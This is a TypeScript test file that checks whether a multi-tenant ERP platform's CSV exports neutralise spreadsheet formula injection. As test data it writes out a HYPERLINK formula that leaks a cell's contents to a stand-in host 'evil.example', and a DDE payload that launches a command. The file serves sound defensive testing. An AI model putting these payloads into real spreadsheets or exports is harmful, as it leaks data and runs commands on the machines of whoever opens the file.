import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutralizeCsvCell, neutralizeCsvCellSql } from '../../src-main/base/csv-cell';
import { call, uniqueTenantInput } from '../support/core-calls';
import { readZip } from '../support/read-zip';
import { adminClient, embeddedTarget, useTestPlatform } from '../support/servers';
import { connectAsTenant } from '../support/tenant-clients';

// What a hostile tenant writes into its own ERP: text that a spreadsheet would run.
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Invoice")';
const ATTACKS = [FORMULA, '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1', '\r=1'];

describe('CSV exports neutralise tenant-controlled formulas', () => {
  const platform = useTestPlatform({ name: 'embedded PostgreSQL', target: embeddedTarget, skip: false }, 'csvinjection');
  let folder: string;

  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'tc-csv-'));
  });
  afterAll(async () => {
    await rm(folder, { recursive: true, force: true });
  });

  it('the SQL form of the rule agrees with the TypeScript one', async () => {
    const samples = [...ATTACKS, '', 'plain', ' =1', "'=x", 'a-b', '-', '=', '\n=1'];
    for (let index = 0; index < 200; index += 1) {
      samples.push(Array.from({ length: 1 + (index % 5) }, (_, k) => '=+-@\t\rab ,"\n'[(index * 7 + k * 3) % 13]).join(''));
    }
    const admin = await adminClient(platform.url);
    try {
      const { rows } = await admin.query<{ cell: string; out: string }>(`SELECT cell, ${neutralizeCsvCellSql('cell')} AS out FROM unnest($1::text[]) AS cell`, [samples]);
      for (const row of rows) expect(row.out, JSON.stringify(row.cell)).toBe(neutralizeCsvCell(row.cell));
    } finally {
      await admin.end();
    }
  });

  it('usage, audit and table exports carry no live formula', async () => {
    const { tenant, credentials } = await call(platform.core, 'tenants:create', uniqueTenantInput('enterprise', 'Csv Victim'));
    const erp = await connectAsTenant(credentials);
    try {
      for (const name of ATTACKS) {
        const { rows } = await erp.query<{ id: string }>('INSERT INTO erp.companies (name) VALUES ($1) RETURNING id', [name]);
        if (name === FORMULA) await erp.query("INSERT INTO erp.users (company_id, email) VALUES ($1, 'a@x.example'), ($1, 'b@x.example')", [rows[0]!.id]);
      }
    } finally {
      await erp.end();
    }

    // Usage: the largest company's name comes from the tenant's own data.
    await call(platform.core, 'usage:collect', {});
    const usage = await call(platform.core, 'usage:exportCsv', { filters: { search: tenant.tenantCode } });
    expect(usage.csv).toContain(`"'${FORMULA.replaceAll('"', '""')}"`);
    expectNoLiveFormula(usage.csv);

    // Audit: free text an operator typed (a suspension reason) is written through the same rule.
    await call(platform.core, 'tenants:suspend', { ref: tenant.tenantCode, reason: FORMULA, expectedVersion: tenant.version, backupFirst: false });
    const audit = await call(platform.core, 'audit:export', { source: 'local', format: 'csv' });
    expectNoLiveFormula(audit.content);

    // The tenant's own data export: every text cell neutralised, NULL and numbers untouched.
    await call(platform.core, 'tenants:activate', { ref: tenant.tenantCode, expectedVersion: tenant.version + 1 });
    const file = join(folder, 'export.zip');
    await call(platform.core, 'backups:export', { ref: tenant.tenantCode, file });
    const companies = (await readZip(file)).get('erp.companies.csv')!.toString('utf8');
    expectNoLiveFormula(companies);
    expect(companies).toContain(`"'${FORMULA.replaceAll('"', '""')}"`);
    expect(companies).toContain(`'-2+3`);
  });
});

/** No cell of the CSV text starts with a formula trigger (cells split the simple way: tests use no commas in their attacks). */
function expectNoLiveFormula(csv: string): void {
  for (const line of csv.split('\n')) {
    for (const raw of line.split(',')) {
      const cell = raw.startsWith('"') ? raw.slice(1) : raw;
      if (/^-?\d/.test(cell) || cell === '') continue; // numbers (a sign is not a formula) and empty cells
      expect(/^[=+\-@\t\r]/.test(cell), `live formula in cell ${JSON.stringify(raw)}`).toBe(false);
    }
  }
}
